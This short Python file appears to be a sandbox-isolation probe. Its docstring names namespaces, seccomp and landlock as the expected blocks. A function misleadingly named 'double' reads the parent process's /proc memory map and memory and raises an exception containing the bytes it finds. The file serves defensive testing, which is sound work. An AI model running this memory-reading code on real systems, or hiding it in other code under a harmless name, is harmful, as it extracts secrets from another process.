"""Reads the memory of the process that started it.

Success: a planted secret stands in the report.
Stopped by: namespaces, seccomp, landlock
Report: PermissionError|FileNotFoundError|NotADirectoryError|OSError
"""

import os


def double(x):
    parent = os.getppid()
    maps = open(f"/proc/{parent}/maps").read()
    with open(f"/proc/{parent}/mem", "rb") as memory:
        memory.seek(int(maps.split("-")[0], 16))
        raise ValueError("DOOR OPEN", memory.read(100))
